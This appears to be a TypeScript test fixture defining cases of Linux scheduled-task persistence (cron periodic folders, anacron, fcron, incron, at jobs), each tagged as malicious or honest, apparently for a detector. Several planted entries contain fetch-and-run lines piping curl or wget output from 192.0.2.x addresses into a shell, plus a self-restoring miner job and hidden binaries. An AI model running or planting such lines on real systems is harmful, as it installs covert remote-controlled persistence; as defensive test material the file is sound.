/** Cases of run-parts folders, anacron, fcron, incron and at; nothing in them is ever run. */
import { inertProgram, type MechanismCase } from '../../../../test/persistence/case.ts';

const atHead =
  '#!/bin/sh\n# atrun uid=0 gid=0\n# mail root 0\numask 22\nPATH=/usr/bin:/bin; export PATH\ncd /root || {\n\t echo no >&2\n\t exit 1\n}\n';

export const cases: readonly MechanismCase[] = [
  {
    mechanism: 'at-job',
    dress: 'unowned-binary',
    what: 'a program in a folder that a variable of the job names',
    planted: {
      '/var/spool/cron/atjobs/a0000501c7d1e0': atHead
        .replace('cd /root', 'W=/var/tmp/.w; export W\ncd /root')
        .concat('exec $W/upd\n'),
      '/var/tmp/.w/upd': inertProgram(),
    },
  },
  {
    mechanism: 'anacron',
    dress: 'fetch-and-run',
    what: 'an address in a variable of the table',
    planted: {
      '/etc/anacrontab': 'SHELL=/bin/sh\nU=http://192.0.2.21/b.sh\n1 5 cron.daily wget -qO- $U | sh\n',
    },
  },
  {
    mechanism: 'cron-period',
    dress: 'fetch-and-run',
    what: 'a script that fetches every day',
    planted: { '/etc/cron.daily/pwn-rig': '#!/bin/sh\nwget -qO- http://192.0.2.20/i | sh\n' },
  },
  {
    mechanism: 'cron-period',
    dress: 'unowned-binary',
    what: 'a program where scripts belong',
    planted: { '/etc/cron.hourly/gcc': inertProgram() },
  },
  {
    mechanism: 'cron-period',
    dress: 'owned-edit',
    what: 'a line inside the script of a package',
    packaged: { '/etc/cron.daily/man-db': { content: '#!/bin/sh\nset -e\nexit 0\n', mode: 0o755 } },
    planted: {
      '/etc/cron.daily/man-db': {
        content: '#!/bin/sh\nset -e\n/usr/share/man/.db/mandbd &\nexit 0\n',
        mode: 0o755,
      },
      '/usr/share/man/.db/mandbd': inertProgram(),
    },
  },
  {
    mechanism: 'cron-period',
    dress: 'honest',
    what: 'a script of a package and a backup of the owner',
    packaged: {
      '/etc/cron.daily/dpkg':
        '#!/bin/sh\nif [ -d /run/systemd/system ]; then exit 0; fi\n/usr/libexec/dpkg/dpkg-db-backup\n',
    },
    conffiles: ['/etc/cron.daily/dpkg'],
    planted: {
      '/etc/cron.daily/backup-etc':
        '#!/bin/bash\nset -euo pipefail\ntar -C / -czf "/srv/backup/etc-$(date +%a).tgz" etc\nfind /srv/backup -name "*.tgz" -mtime +30 -delete\n',
      '/etc/cron.weekly/fstrim': '#!/bin/sh\n/sbin/fstrim --all || true\n',
    },
  },
  {
    mechanism: 'anacron',
    dress: 'fetch-and-run',
    what: 'a job that fetches',
    planted: {
      '/etc/anacrontab':
        '1 5 cron.daily run-parts /etc/cron.daily\n1 1 upd curl -s http://192.0.2.21/a.sh | sh\n',
    },
  },
  {
    mechanism: 'anacron',
    dress: 'unowned-binary',
    what: 'a job for a program in the spool',
    planted: {
      '/etc/anacrontab': '1 7 cron.cache /var/spool/anacron/cron.cache\n',
      '/var/spool/anacron/cron.cache': inertProgram(),
    },
  },
  {
    mechanism: 'anacron',
    dress: 'owned-edit',
    what: 'a job of a hidden program, in the table of the package',
    packaged: { '/etc/anacrontab': '1 5 cron.daily run-parts --report /etc/cron.daily\n' },
    conffiles: ['/etc/anacrontab'],
    planted: {
      '/etc/anacrontab': '1 5 cron.daily run-parts --report /etc/cron.daily\n@monthly 1 x /usr/lib/.x/d\n',
      '/usr/lib/.x/d': inertProgram(),
    },
  },
  {
    mechanism: 'anacron',
    dress: 'honest',
    what: 'the table of the package, dates in the spool, and a job of the owner',
    packaged: {
      '/etc/anacrontab':
        '1 5 cron.daily run-parts --report /etc/cron.daily\n7 10 cron.weekly run-parts --report /etc/cron.weekly\n',
    },
    conffiles: ['/etc/anacrontab'],
    planted: {
      '/var/spool/anacron/cron.daily': '20261124\n',
      '/home/ada/.anacron/etc/anacrontab': '1 5 photos rsync -a /home/ada/photos /srv/photos\n',
    },
  },
  {
    mechanism: 'fcron',
    dress: 'fetch-and-run',
    what: 'a job by run time that fetches',
    planted: { '/var/spool/fcron/root.orig': '@ 5 curl -s http://192.0.2.22/f | bash\n' },
  },
  {
    mechanism: 'fcron',
    dress: 'unowned-binary',
    what: 'a foreign program of the system',
    planted: {
      '/var/spool/fcron/systab.orig': '&bootrun 0 * * * * /usr/sbin/netcheckd\n',
      '/usr/sbin/netcheckd': inertProgram(),
    },
  },
  {
    mechanism: 'fcron',
    dress: 'owned-edit',
    what: 'a job for a program of a package that was changed',
    packaged: { '/usr/lib/sysstat/sa2': '#!/bin/sh\nexit 0\n' },
    planted: {
      '/var/spool/fcron/root.orig': '53 23 * * * /usr/lib/sysstat/sa2 -A\n',
      '/usr/lib/sysstat/sa2': '#!/bin/sh\n/usr/bin/env true\nexit 0\n',
    },
  },
  {
    mechanism: 'fcron',
    dress: 'honest',
    what: 'a backup of the owner',
    planted: {
      '/var/spool/fcron/ada.orig': '!mailto(ada)\n%nightly * 2-4 rsync -a /home/ada /srv/backup/\n',
    },
  },
  {
    mechanism: 'incron',
    dress: 'fetch-and-run',
    what: 'a job that fetches again when the miner is deleted',
    planted: {
      '/var/spool/incron/root':
        '/usr/bin/.m IN_DELETE_SELF curl -s http://192.0.2.23/m -o /usr/bin/.m && chmod +x /usr/bin/.m && /usr/bin/.m\n',
    },
  },
  {
    mechanism: 'incron',
    dress: 'unowned-binary',
    what: 'a foreign program of the system when a table changes',
    planted: {
      '/etc/incron.d/cron': '/var/spool/cron IN_MODIFY,IN_DELETE /usr/lib/cron/restore\n',
      '/usr/lib/cron/restore': inertProgram(),
    },
  },
  {
    mechanism: 'incron',
    dress: 'owned-edit',
    what: 'a job for a script of a package that was changed',
    packaged: { '/usr/share/aide/notify': '#!/bin/sh\nexit 0\n' },
    planted: {
      '/etc/incron.d/aide': '/etc/passwd IN_MODIFY /usr/share/aide/notify\n',
      '/usr/share/aide/notify': '#!/bin/sh\n/usr/bin/test x\nexit 0\n',
    },
  },
  {
    mechanism: 'incron',
    dress: 'honest',
    what: 'a converter of uploads',
    planted: {
      '/etc/incron.d/uploads': '/srv/uploads IN_CLOSE_WRITE /usr/local/bin/convert-upload $@/$#\n',
      '/usr/local/bin/convert-upload': '#!/bin/sh\nconvert "$1" "$1.jpg"\n',
    },
  },
  {
    mechanism: 'at-job',
    dress: 'fetch-and-run',
    what: 'a job that fetches and asks to be run again',
    planted: {
      '/var/spool/cron/atjobs/a0000201c7d1e0': `${atHead}curl -s http://192.0.2.24/j | sh\necho /tmp/j | at now + 5 minutes\n`,
    },
  },
  {
    mechanism: 'at-job',
    dress: 'unowned-binary',
    what: 'a program in a temporary folder',
    planted: {
      '/var/spool/at/a0000301c7d1e0': `${atHead}/var/tmp/.font/fc-cache\n`,
      '/var/tmp/.font/fc-cache': inertProgram(),
    },
  },
  {
    mechanism: 'at-job',
    dress: 'owned-edit',
    what: 'a program of a package that was changed',
    packaged: { '/usr/lib/at/notify': '#!/bin/sh\nexit 0\n' },
    planted: {
      '/var/spool/cron/atjobs/b0000401c7d1e0': `${atHead}/usr/lib/at/notify\n`,
      '/usr/lib/at/notify': '#!/bin/sh\n/usr/bin/true\nexit 0\n',
    },
  },
  {
    mechanism: 'at-job',
    dress: 'honest',
    what: 'a restart in the night',
    planted: { '/var/spool/cron/atjobs/a0000501c7d1e0': `${atHead}systemctl restart nginx\n` },
  },
];
